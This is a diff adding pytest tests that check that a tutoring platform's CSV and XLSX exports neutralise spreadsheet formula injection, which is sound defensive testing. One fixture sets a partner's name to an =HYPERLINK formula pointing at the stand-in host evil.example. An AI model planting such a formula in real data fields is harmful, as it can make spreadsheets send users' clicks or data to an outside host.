@@ -13,7 +13,9 @@ from tests.indicators.test_indicators import (  # noqa: F401 - the fixed March s
     language_exams,
     scenario,
 )
-from tutoring.accounts.models import Role
+from tutoring.accounts.models import Partner, Role
+from tutoring.accounts.profiles import LearnerProfile
+from tutoring.core.extensions import db
 
 MARCH = "?period=month&value=2026-03"
 SMALL = re.compile(r"^(?:[1-9]|10)$")  # 1 to k-1 with k = 11
@@ -165,3 +167,46 @@ def test_other_roles_cannot_read_indicators(client, signed_in):
         "/coordination/bilan.pdf",
     ):
         assert client.get(path).status_code == 403
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x","x")'
+
+
+@pytest.fixture
+def formula_partner(app, make, scenario):
+    """A partner whose name is a spreadsheet formula, prescriber of learners A and B."""
+
+    def build():
+        profile = db.session.get(LearnerProfile, scenario["A"])
+        partner = Partner(structure_id=profile.structure_id, name=FORMULA)
+        db.session.add(partner)
+        db.session.flush()
+        for name in ("A", "B"):
+            db.session.get(LearnerProfile, scenario[name]).partner_id = partner.id
+        db.session.commit()
+
+    make.run(build)
+    app.config["SMALL_CELL_THRESHOLD"] = 1  # nothing hidden: the name is shown
+
+
+@pytest.mark.usefixtures("formula_partner")
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(coordinator):
+    raw = coordinator.get("/coordination/export.csv" + MARCH).get_data()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + FORMULA in cells  # shown as text, never run
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    # negative or plain numbers stay numbers
+    assert not [c for c in cells if c.startswith("'") and c[1:].lstrip("-").isdigit()]
+
+
+@pytest.mark.usefixtures("formula_partner")
+def test_xlsx_export_writes_a_formula_like_name_as_text(coordinator):
+    xlsx = coordinator.get("/coordination/export.xlsx" + MARCH).get_data()
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
+        sheets = "".join(
+            book.read(n).decode("utf-8") for n in book.namelist() if "worksheets" in n
+        )
+        strings = book.read("xl/sharedStrings.xml").decode("utf-8")
+    assert "<f>" not in sheets  # no formula cell anywhere
+    assert "HYPERLINK" in strings  # the name is there, as a plain string
